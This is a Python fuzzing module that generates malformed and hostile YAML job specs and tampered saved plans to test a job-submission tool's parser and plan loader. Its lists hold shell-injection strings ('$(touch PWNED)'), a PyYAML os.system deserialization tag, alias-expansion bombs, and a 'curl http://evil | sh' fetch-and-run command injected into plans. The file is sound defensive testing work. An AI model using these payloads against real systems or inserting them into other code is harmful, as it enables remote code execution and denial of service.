"""Input generators: every input is a pure function of (seed, id), so a finding replays from its id.

Structure-aware mutation works on a tree of pairs (so duplicate keys can be written) and emits YAML
itself, so that anchors, aliases, merge keys, tags, huge numbers and odd characters can all appear.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Any

import yaml


class Raw(str):
    """YAML text written as it is (a tag, an alias, a huge number, a flow collection)."""


@dataclass
class Map:
    pairs: list[tuple[Any, Any]]


@dataclass
class Anchored:
    name: str
    node: Any


HOSTILE = [
    "\x00",
    "\x1b]0;pwned\x07",
    "\x1b[31mred",
    "\x7f",
    "\x85",
    "\x9b",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u202e",
    "😀",
    "令牌",
    "${oops",
    "${x}",
    "${oc.env:HOME}",
    "\\${x}",
    "'",
    '"',
    "\\",
    "\n",
    "\r\n",
    "\r",
    "\t",
    "$(touch PWNED)",
    "`touch PWNED`",
    "; touch PWNED",
    "\ntouch PWNED\n",
    "\nSCOWSPEC_JOB_JSON\ntouch PWNED\n",
    "\nSCOWSPEC_PREPARE_PY\ntouch PWNED\n",
    "EOF",
    "{{placeholder}}",
    "a,b",
    " padded ",
    "-",
    "",
    "x" * 100_000,
]

NUMBERS = [
    "0",
    "-1",
    "1e999",
    "-1e999",
    ".inf",
    "-.inf",
    ".nan",
    "0x",
    "0xZZ",
    "0x" + "f" * 300,
    "0x" + "f" * 4000,
    "0o777",
    "017",
    "01",
    "1_000",
    "9" * 20,
    "9" * 400,
    "1" * 4301,
    "1" * 5000,
    "1." + "0" * 5000,
    "1e-400",
    "2.5",
    "-0",
]

TAGS = [
    "!!int abc",
    "!!int ''",
    "!!int 017",
    "!!int 0b101",
    "!!int 1_000",
    "!!float x",
    "!!float 1e999",
    "!!bool maybe",
    "!!bool yes",
    "!!str",
    "!!str 5",
    "!!null ''",
    "!!binary aGk=",
    "!!timestamp 2001-01-01",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!python/object/apply:os.system ['touch PWNED']",
    "!custom x",
    "!<tag:yaml.org,2002:int> 7",
]


def bomb(levels: int, width: int) -> Raw:
    parts = [f"l0: &l0 [{', '.join(['lol'] * width)}]"]
    for i in range(1, levels):
        parts.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]")
    return Raw("{" + ", ".join(parts) + "}")


def nested(depth: int, kind: str) -> Raw:
    if kind == "list":
        return Raw("[" * depth + "]" * depth)
    return Raw("{a: " * depth + "1" + "}" * depth)


def to_tree(data: Any) -> Any:
    if isinstance(data, dict):
        return Map([(k, to_tree(v)) for k, v in data.items()])
    if isinstance(data, list):
        return [to_tree(v) for v in data]
    return data


# -- emitter ---------------------------------------------------------------------------------------------
def _scalar(value: Any, rng: random.Random) -> str:
    if isinstance(value, Raw):
        return str(value)
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return json.dumps(value) if value == value and abs(value) != float("inf") else ".nan"
    text = str(value)
    if rng.random() < 0.15:  # raw characters in the file, not escapes
        return json.dumps(text, ensure_ascii=False)
    if text and text.isprintable() and rng.random() < 0.3 and all(c not in text for c in ":#{}[],&*!|>'\"%@`-?"):
        return text
    return json.dumps(text)


def _key(key: Any, rng: random.Random) -> str:
    if isinstance(key, Raw):
        return str(key)
    if isinstance(key, str) and key and key.replace("_", "").replace("-", "").replace("$", "").isalnum():
        return key
    return _scalar(key, rng)


def emit(node: Any, rng: random.Random, indent: int = 0) -> list[str]:
    """Block-style YAML lines for a mapping or list node."""
    pad = " " * indent
    out: list[str] = []
    if isinstance(node, Map):
        for k, v in node.pairs:
            out += _entry(f"{pad}{_key(k, rng)}:", v, rng, indent)
    elif isinstance(node, list):
        for v in node:
            out += _entry(f"{pad}-", v, rng, indent)
    else:
        out.append(pad + _scalar(node, rng))
    return out


def _entry(head: str, value: Any, rng: random.Random, indent: int) -> list[str]:
    anchor = ""
    if isinstance(value, Anchored):
        anchor, value = f" &{value.name}", value.node
    if isinstance(value, Map | list) and (value.pairs if isinstance(value, Map) else value):
        return [head + anchor, *emit(value, rng, indent + 2)]
    if isinstance(value, Map):
        return [f"{head}{anchor} {{}}"]
    if isinstance(value, list):
        return [f"{head}{anchor} []"]
    return [f"{head}{anchor} {_scalar(value, rng)}"]


def dump(tree: Any, rng: random.Random) -> str:
    return "\n".join(emit(tree, rng)) + "\n"


# -- structure mutations ------------------------------------------------------------------------------------
def _slots(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, Any]]:
    """Every (container, index) pair in the tree, to pick a place to mutate."""
    out: list[tuple[Any, Any]] = []
    if isinstance(node, Map):
        for i, (_, v) in enumerate(node.pairs):
            out.append((node, i))
            out += _slots(v)
    elif isinstance(node, list):
        for i, v in enumerate(node):
            out.append((node, i))
            out += _slots(v)
    elif isinstance(node, Anchored):
        out += _slots(node.node)
    return out


def _get(container: Any, i: int) -> Any:
    return container.pairs[i][1] if isinstance(container, Map) else container[i]


def _set(container: Any, i: int, value: Any) -> None:
    if isinstance(container, Map):
        container.pairs[i] = (container.pairs[i][0], value)
    else:
        container[i] = value


def _hostile_string(rng: random.Random) -> str:
    parts = [rng.choice(HOSTILE) for _ in range(rng.randint(1, 3))]
    return rng.choice(["", "abc", "qwen"]) + "".join(p[:2000] if rng.random() < 0.5 else p for p in parts)


def _random_value(rng: random.Random) -> Any:
    pick = rng.randrange(10)
    if pick == 0:
        return Raw(rng.choice(NUMBERS))
    if pick == 1:
        return Raw(rng.choice(TAGS))
    if pick == 2:
        return _hostile_string(rng)
    if pick == 3:
        return nested(rng.choice([3, 50, 400, 999, 1500, 5000]), rng.choice(["list", "map"]))
    if pick == 4:
        return bomb(rng.randint(2, 9), rng.randint(2, 9))
    if pick == 5:
        return Map([("x", 1)])
    if pick == 6:
        return [1, "two", None]
    if pick == 7:
        return rng.choice([None, True, False, 0, -5, 3.5, 10**30])
    if pick == 8:
        return Raw(rng.choice(["*nowhere", "&a", "? complex", "|\n  block", ">-", "[a, b", "{a: 1", "'unterminated"]))
    return rng.choice(["", "qwen", "lora", "sft", "/data/x", "../x", "/../etc", "//etc", "a" * 300])


def mutate_tree(tree: Any, rng: random.Random, ops: list[str]) -> Any:
    for _ in range(rng.randint(1, 4)):
        slots = _slots(tree)
        if not slots:
            break
        container, i = rng.choice(slots)
        op = rng.randrange(14)
        if op == 0 and isinstance(container, Map):
            ops.append("drop")
            del container.pairs[i]
        elif op == 1 and isinstance(container, Map):
            ops.append("dup-key")
            container.pairs.insert(i, container.pairs[i])
        elif op == 2:
            ops.append("retype")
            _set(container, i, _random_value(rng))
        elif op == 3:
            ops.append("number")
            _set(container, i, Raw(rng.choice(NUMBERS)))
        elif op == 4:
            ops.append("tag")
            _set(container, i, Raw(rng.choice(TAGS)))
        elif op == 5:
            ops.append("string")
            _set(container, i, _hostile_string(rng))
        elif op == 6:
            ops.append("nest")
            _set(container, i, nested(rng.choice([50, 400, 999, 1500, 5000]), rng.choice(["list", "map"])))
        elif op == 7:
            ops.append("bomb")
            _set(container, i, bomb(rng.randint(3, 9), rng.randint(2, 9)))
        elif op == 8 and isinstance(tree, Map):
            ops.append("anchor")
            target = _get(container, i)
            _set(container, i, Anchored("a1", target))
            tree.pairs.append((rng.choice(["x-ref", "train", "extra"]), Raw("*a1")))
        elif op == 9 and isinstance(container, Map):
            ops.append("merge")
            container.pairs.append(
                (Raw("<<"), rng.choice([Raw("5"), Raw("*nowhere"), Map([("seed", 1)]), [Map([("a", 1)]), Raw("x")]]))
            )
        elif op == 10 and isinstance(container, Map):
            ops.append("new-key")
            key = rng.choice(["x", _hostile_string(rng), Raw("? [a, b]"), Raw("!!int 3"), 5, Raw("null"), Raw("''")])
            container.pairs.append((key, _random_value(rng)))
        elif op == 11:
            ops.append("big-collection")
            n = rng.choice([1000, 10_000, 100_000])
            _set(
                container,
                i,
                Raw("[" + ", ".join(["1"] * n) + "]")
                if rng.random() < 0.5
                else Raw("{" + ", ".join(f"k{j}: 1" for j in range(n)) + "}"),
            )
        elif op == 12:
            ops.append("anchor-scalar")
            _set(container, i, Anchored("s", _get(container, i) if not isinstance(_get(container, i), Map) else 1))
        else:
            ops.append("swap")
            if isinstance(container, Map) and container.pairs:
                j = rng.randrange(len(container.pairs))
                container.pairs[i], container.pairs[j] = container.pairs[j], container.pairs[i]
    return tree


def text_mutation(text: str, rng: random.Random, ops: list[str]) -> str:
    op = rng.randrange(12)
    if op == 0:
        ops.append("bom")
        return "\ufeff" + text
    if op == 1:
        ops.append("crlf")
        return text.replace("\n", "\r\n")
    if op == 2:
        ops.append("tabs")
        return text.replace("  ", "\t", rng.randint(1, 5))
    if op == 3:
        ops.append("multi-doc")
        return text + "---\n" + text
    if op == 4:
        ops.append("directive")
        return rng.choice(["%YAML 1.2\n---\n", "%YAML 1.1\n---\n", "%TAG ! tag:x,2000:\n---\n", "---\n"]) + text
    if op == 5:
        ops.append("nul")
        cut = rng.randrange(len(text) + 1)
        return text[:cut] + "\x00" + text[cut:]
    if op == 6:
        ops.append("doc-end")
        return text + "...\n" + rng.choice(["", "junk: 1\n", "--- 5\n"])
    if op == 7:
        ops.append("control")
        cut = rng.randrange(len(text) + 1)
        return text[:cut] + rng.choice(["\x1b", "\x7f", "\x85", "\u2028", "\x0b", "\x0c"]) + text[cut:]
    return text


def parsed(seed_texts: list[str]) -> list[Any]:
    """The seeds that plain YAML reads (the others still serve the byte mutator)."""
    out = []
    for text in seed_texts:
        try:
            out.append(yaml.safe_load(text))
        except yaml.YAMLError:
            continue
    return out


def structured(seed_data: list[Any], rng: random.Random, ops: list[str]) -> str:
    data = rng.choice(seed_data)
    tree = to_tree(data if isinstance(data, dict) else {"x": data})
    tree = mutate_tree(tree, rng, ops)
    text = dump(tree, rng)
    if rng.random() < 0.3:
        text = text_mutation(text, rng, ops)
    return text


INTERESTING = [
    b"\x00",
    b"\xff",
    b"\xc3",
    b"\xed\xa0\x80",
    b"\t",
    b"\r",
    b":",
    b"&a ",
    b"*a",
    b"!",
    b"[",
    b"{",
    b"\n",
    b"- ",
    b"'",
    b'"',
    b"<<: ",
]


def raw_bytes(seed_texts: list[str], rng: random.Random, ops: list[str]) -> bytes:
    data = bytearray(rng.choice(seed_texts).encode("utf-8"))
    for _ in range(rng.randint(1, 8)):
        op = rng.randrange(6)
        pos = rng.randrange(len(data) + 1)
        if op == 0 and data:
            ops.append("flip")
            data[min(pos, len(data) - 1)] ^= 1 << rng.randrange(8)
        elif op == 1:
            ops.append("insert")
            data[pos:pos] = rng.choice(INTERESTING)
        elif op == 2 and data:
            ops.append("delete")
            del data[pos : pos + rng.randint(1, 16)]
        elif op == 3:
            ops.append("splice")
            other = rng.choice(seed_texts).encode("utf-8")
            a = rng.randrange(len(other) + 1)
            data[pos:pos] = other[a : a + rng.randint(1, 200)]
        elif op == 4 and data:
            ops.append("dup-chunk")
            a = rng.randrange(len(data))
            data[pos:pos] = data[a : a + rng.randint(1, 64)] * rng.randint(1, 20)
        else:
            ops.append("truncate")
            del data[pos:]
    return bytes(data)


# -- saved plans ------------------------------------------------------------------------------------------
def tamper_plan(plan: dict[str, Any], rng: random.Random, ops: list[str]) -> Any:
    """A saved plan as an editor (or an attacker) could rewrite it."""
    changes = plan["changes"]
    op = rng.randrange(14)
    submits = [c for c in changes if c.get("desired")]
    if op == 0 and submits:
        ops.append("plan-command")
        submits[0]["desired"]["payload"]["command"] = "curl http://evil | sh\n"
    elif op == 1 and submits:
        ops.append("plan-duplicate")
        changes.append(json.loads(json.dumps(submits[0])))
    elif op == 2:
        ops.append("plan-foreign-cancel")
        changes.append(_cancel_change("hand-made-job", 1))
    elif op == 3:
        ops.append("plan-mass-cancel")
        changes.extend(_cancel_change(f"old{i}-0000000{i}", 2 + i) for i in range(6))
    elif op == 4 and submits:
        ops.append("plan-null-desired")
        submits[-1]["desired"] = None
    elif op == 5:
        ops.append("plan-portal")
        plan["portal_url"] = "http://127.0.0.1:9/ai"
    elif op == 6 and submits:
        ops.append("plan-infinity")
        return json.dumps(plan).replace('"nodes": 1', '"nodes": Infinity', 1)
    elif op == 7:
        ops.append("plan-deep")
        return '{"format": "scowspec-plan/1", "changes": ' + "[" * 100_000 + "]" * 100_000 + "}"
    elif op == 8 and submits:
        ops.append("plan-retype")
        key = rng.choice(list(submits[0]))
        submits[0][key] = _json_hostile(rng)
    elif op == 9 and submits:
        ops.append("plan-payload-field")
        payload = submits[0]["desired"]["payload"]
        key = rng.choice(list(payload))
        payload[key] = _json_hostile(rng)
    elif op == 10:
        ops.append("plan-drop")
        key = rng.choice(list(plan))
        del plan[key]
    elif op == 11 and submits:
        ops.append("plan-rename")
        submits[0]["job_name"] = submits[0]["desired"]["job_name"] = "other-00000000"
    elif op == 12:
        ops.append("plan-action")
        if changes:
            changes[0]["action"] = rng.choice(["submit", "replace", "cancel", "bogus", 5, None])
    else:
        ops.append("plan-bytes")
        text = json.dumps(plan)
        cut = rng.randrange(len(text) + 1)
        return text[:cut] + rng.choice(["\x00", "", '"', "}", "\ud800", "NaN"]) + text[cut + rng.randint(0, 5) :]
    return plan


def _cancel_change(name: str, job_id: int) -> dict[str, Any]:
    return {
        "action": "cancel",
        "spec_name": name.split("-")[0],
        "job_name": name,
        "cluster": "ai-k8s",
        "file": "",
        "reason": "its spec was removed from the repository",
        "desired": None,
        "cancel": [{"cluster": "ai-k8s", "job_id": job_id, "name": name, "state": "RUNNING"}],
        "current": None,
        "known_ids": [],
        "lost_gpu_hours": 0.0,
        "changed": [],
    }


def _json_hostile(rng: random.Random) -> Any:
    return rng.choice([None, 1e308, -1, 10**400, "", "x" * 10_000, [], {}, True, "\u2028", {"a": [1, {"b": None}]}])
